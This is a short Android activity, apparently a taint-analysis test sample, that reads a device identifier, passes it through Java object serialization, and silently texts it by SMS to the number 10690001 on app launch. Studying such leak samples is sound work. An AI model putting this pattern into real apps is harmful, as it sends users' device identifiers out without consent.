package cn.shanhai.serialization;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      Record record = new Record();
      record.note = Device.id(this);
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      ObjectOutputStream out = new ObjectOutputStream(bytes);
      out.writeObject(record);
      out.close();
      Record copy = (Record) new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray())).readObject();
      SmsManager.getDefault().sendTextMessage("10690001", null, "r=" + copy.note, null, null);
    } catch (IOException | ClassNotFoundException e) {
      setTitle("首页");
    }
  }
}
